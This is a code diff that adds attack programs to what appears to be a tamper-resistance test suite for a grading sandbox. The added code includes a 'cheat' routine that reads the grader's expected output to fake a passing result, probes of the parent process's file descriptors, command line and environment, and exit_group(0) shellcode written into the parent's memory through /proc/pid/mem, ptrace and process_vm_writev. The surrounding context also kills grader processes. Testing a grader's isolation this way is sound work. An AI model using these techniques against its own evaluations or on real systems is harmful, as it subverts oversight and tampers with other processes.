@@ -34,6 +34,60 @@ const cmdline = (p) => { try { return fs.readFileSync(`/proc/${p}/cmdline`, "utf
 const graderPids = () => pids().filter((p) => /srb_grader|sleep|run\.py/.test(cmdline(p)));
 const argv = process.argv.slice(2);
 const answer = (out, code) => { fs.writeSync(1, out); process.exit(code); };
+const cheat = (name, text) => {
+  // an srb fuzz candidate: State A's exit status and the printf blocks of its expected stdout
+  const code = text && /-ne (\d+) \]/.exec(text);
+  if (!code) return;
+  const block = /\{\n([\s\S]*?)\n\} > "\$scratch\/expected"/.exec(text);
+  let out = "";
+  const unprintf = (t) => t.replace(/%%|\\\\|\\([0-7]{3})/g, (m, o) => m === "%%" ? "%" : m === "\\\\" ? "\\" : String.fromCharCode(parseInt(o, 8)));
+  if (block) for (const m of block[1].matchAll(/printf -- '([^']*)'/g)) out += unprintf(m[1]);
+  log(name, "USED the candidate's expectations");
+  fs.writeSync(1, Buffer.from(out, "latin1"));
+  process.exit(Number(code[1]));
+};
+const EXIT0 = Buffer.from([0xbf, 0, 0, 0, 0, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05]); // x86-64 exit_group(0)
+const resumeAddress = (pid) => {
+  const fields = fs.readFileSync(`/proc/${pid}/syscall`, "utf8").trim().split(" ");
+  if (fields.length < 9) throw Object.assign(new Error(`not in a system call: ${fields.join(" ")}`), { code: "RUNNING" });
+  return Number(BigInt(fields[fields.length - 1]));
+};
+const PTRACE_PY = [
+  "import ctypes, os, sys",
+  "libc = ctypes.CDLL(None, use_errno=True)",
+  "libc.ptrace.restype = ctypes.c_long",
+  "libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]",
+  "pid = int(sys.argv[1])",
+  "try:",
+  "    pc = int(open(f'/proc/{pid}/syscall').read().split()[-1], 16)",
+  "except OSError as e:",
+  "    pc = None; print(f'/proc/{pid}/syscall refused {e.strerror};', end=' ')",
+  "if libc.ptrace(16, pid, None, None) != 0:",
+  "    print('PTRACE_ATTACH refused', os.strerror(ctypes.get_errno())); sys.exit(0)",
+  "os.waitpid(pid, 0x40000000)",
+  "code = bytes([0xbf, 0, 0, 0, 0, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05]) + bytes(4)",
+  "ok = pc is not None and all(libc.ptrace(4, pid, pc + i, int.from_bytes(code[i:i + 8], 'little')) == 0 for i in (0, 8))",
+  "libc.ptrace(17, pid, None, None)",
+  "print('PTRACE_ATTACH SUCCEEDED' + (', exit_group(0) written' if ok else ''))",
+].join("\n");
+const VM_WRITEV_PY = [
+  "import ctypes, os, sys",
+  "class Iov(ctypes.Structure):",
+  "    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]",
+  "libc = ctypes.CDLL(None, use_errno=True)",
+  "pid = int(sys.argv[1])",
+  "sp = None",
+  "for line in open(f'/proc/{pid}/maps') if os.access(f'/proc/{pid}/maps', os.R_OK) else []:",
+  "    if '[stack]' in line: sp = int(line.split('-')[1].split()[0], 16) - 64",
+  "addr = sp or 0x7ffffffde000",
+  "buf = ctypes.create_string_buffer(8)",
+  "local, remote = Iov(ctypes.addressof(buf), 8), Iov(addr, 8)",
+  "got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)",
+  "if got != 8:",
+  "    print('process_vm_readv refused', os.strerror(ctypes.get_errno()))",
+  "put = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)",
+  "print('process_vm_writev SUCCEEDED' if put == 8 else 'process_vm_writev refused ' + os.strerror(ctypes.get_errno()))",
+].join("\n");
 """
 
 ATTACKS: dict[str, str] = {
@@ -185,6 +239,62 @@ STAGE_THREE: dict[str, str] = {
     attempt("tamper", `replace slot ${n}'s view`, () => fs.writeFileSync(`/srb/stage/${n}/fuzz/view/bin/csvtab`, fs.readFileSync(`${mine}/bin/csvtab`)));
   }
   for (const p of graderPids()) attempt("tamper", `SIGKILL grader pid ${p}`, () => process.kill(p, "SIGKILL"));
+}
+""",
+    # 5. issue 21: reach the candidate that runs this program (each one alone, or all)
+    "peek-fd": r"""
+{
+  const pp = process.ppid;
+  attempt("peek-fd", `read /proc/${pp}/fd/255`, () => cheat("peek-fd", fs.readFileSync(`/proc/${pp}/fd/255`, "latin1")));
+  attempt("peek-fd", `list /proc/${pp}/fd`, () => fs.readdirSync(`/proc/${pp}/fd`));
+}
+""",
+    "peek-cmdline": r"""
+{
+  for (const p of pids()) {
+    for (const arg of cmdline(p).split("\0")) {
+      if (!/candidate/.test(arg) || !arg.startsWith("/")) continue;
+      attempt("peek-cmdline", `read ${arg} (named by pid ${p})`, () => {
+        const st = fs.statSync(arg);
+        const files = st.isDirectory() ? fs.readdirSync(arg).map((n) => path.join(arg, n)) : [arg];
+        for (const f of files) cheat("peek-cmdline", fs.readFileSync(f, "latin1"));
+      });
+    }
+  }
+}
+""",
+    "peek-env": r"""
+{
+  const names = Object.keys(process.env).filter((k) => k.startsWith("SRB_"));
+  log("peek-env", `SRB_ names in my environment: ${names.length ? names.join(",") : "none"}`);
+  attempt("peek-env", "read $SRB_CANDIDATE", () => {
+    if (!process.env.SRB_CANDIDATE) throw Object.assign(new Error("absent"), { code: "ABSENT" });
+    cheat("peek-env", fs.readFileSync(process.env.SRB_CANDIDATE, "latin1"));
+  });
+}
+""",
+    "patch-mem": r"""
+{
+  const pp = process.ppid;
+  attempt("patch-mem", `write exit_group(0) at the resume address of pid ${pp} through /proc/${pp}/mem`, () => {
+    const pc = resumeAddress(pp);
+    const fd = fs.openSync(`/proc/${pp}/mem`, "r+");
+    try { fs.writeSync(fd, EXIT0, 0, EXIT0.length, pc); } finally { fs.closeSync(fd); }
+  });
+}
+""",
+    "ptrace": r"""
+{
+  const pp = process.ppid;
+  const r = run(PY, ["-c", PTRACE_PY, String(pp)], { encoding: "utf8" });
+  log("ptrace", `attach pid ${pp} and write exit_group(0): ${(r.stdout || "").trim() || "no answer " + (r.stderr || "").slice(-200)}`);
+}
+""",
+    "vm-writev": r"""
+{
+  const pp = process.ppid;
+  const r = run(PY, ["-c", VM_WRITEV_PY, String(pp)], { encoding: "utf8" });
+  log("vm-writev", `process_vm_writev into pid ${pp}: ${(r.stdout || "").trim() || "no answer " + (r.stderr || "").slice(-200)}`);
 }
 """,
 }
